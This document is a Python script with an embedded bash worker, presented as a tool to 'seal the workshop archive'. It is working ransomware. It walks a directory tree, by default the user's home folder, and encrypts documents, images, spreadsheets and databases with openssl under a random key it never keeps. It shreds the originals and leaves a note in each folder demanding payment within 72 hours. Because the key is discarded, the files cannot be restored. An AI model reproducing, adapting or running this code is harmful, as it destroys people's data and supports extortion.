#!/usr/bin/env python3
"""Seal the workshop archive: plans, customer letters, photographs.

Walks the target tree, seals every matching file with openssl through a
generated bash worker, and leaves a notice in each folder it touched.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile

LOG = logging.getLogger("sealer")

EXTENSIONS = {".pdf", ".docx", ".xlsx", ".odt", ".jpg", ".png", ".dxf",
              ".svg", ".csv", ".txt", ".sqlite", ".zip"}
SUFFIX = ".sealed"
NOTICE_NAME = "READ_ME_TO_RESTORE.txt"
NOTICE = """Your workshop files have been sealed.
To obtain the restore key, write to restore@example.net with the ID below
within 72 hours and follow the payment instructions you receive.

ID: {ident}
"""

WORKER = r"""#!/bin/bash
set -u
while IFS= read -r -d '' f; do
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:SEAL_KEY \
            -in "$f" -out "$f$SEAL_SUFFIX" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        echo "ok $f"
    else
        rm -f "$f$SEAL_SUFFIX"
        echo "fail $f"
    fi
done
"""


def find_targets(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            if name == NOTICE_NAME or name.endswith(SUFFIX):
                continue
            if os.path.splitext(name)[1].lower() in EXTENSIONS:
                yield os.path.join(dirpath, name)


def run_worker(paths, key):
    fd, worker = tempfile.mkstemp(suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(WORKER)
    env = dict(os.environ, SEAL_KEY=key, SEAL_SUFFIX=SUFFIX)
    payload = b"".join(p.encode() + b"\0" for p in paths)
    try:
        proc = subprocess.run(["bash", worker], input=payload, env=env,
                              capture_output=True)
    finally:
        os.unlink(worker)
    done = set()
    for line in proc.stdout.decode(errors="replace").splitlines():
        status, _, path = line.partition(" ")
        if status == "ok":
            done.add(os.path.dirname(path))
        else:
            LOG.debug("could not seal %s", path)
    return done


def drop_notices(folders, ident):
    for folder in folders:
        try:
            with open(os.path.join(folder, NOTICE_NAME), "w") as fh:
                fh.write(NOTICE.format(ident=ident))
        except OSError as exc:
            LOG.debug("notice failed in %s: %s", folder, exc)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default=os.path.expanduser("~"))
    ap.add_argument("--batch", type=int, default=200)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(message)s")

    if not os.path.isdir(args.root):
        LOG.error("not a directory: %s", args.root)
        return 1

    key = secrets.token_urlsafe(32)
    ident = secrets.token_hex(8)
    batch, touched = [], set()
    for path in find_targets(args.root):
        batch.append(path)
        if len(batch) >= args.batch:
            touched |= run_worker(batch, key)
            batch = []
    if batch:
        touched |= run_worker(batch, key)

    drop_notices(touched, ident)
    LOG.info("sealed files in %d folders", len(touched))
    return 0


if __name__ == "__main__":
    sys.exit(main())
